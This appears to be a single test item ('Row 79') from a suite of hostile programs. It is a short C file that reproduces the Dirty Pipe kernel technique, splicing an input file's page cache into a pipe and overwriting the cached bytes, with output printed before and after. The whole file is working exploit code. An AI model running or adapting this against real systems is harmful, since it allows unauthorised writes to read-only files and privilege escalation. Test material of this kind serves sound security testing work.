/* Row 79: page cache of the input goes into a pipe, and the pipe is written (the way of Dirty Pipe). */
#include "hostile.h"
#include <sys/uio.h>

int main(void) {
    char text[17] = { 0 };
    pread(0, text, 16, 0);
    puts(text);
    int ends[2];
    pipe(ends);
    loff_t start = 0;
    static char full[1 << 16];
    write(ends[1], full, sizeof full);
    read(ends[0], full, sizeof full);
    splice(0, &start, ends[1], 0, 1, 0);
    write(ends[1], "XXXXXXXXXXXXXXX", 15);
    struct iovec part = { full, 4096 };
    vmsplice(ends[1], &part, 1, 0);
    pread(0, text, 16, 0);
    puts(text);
}
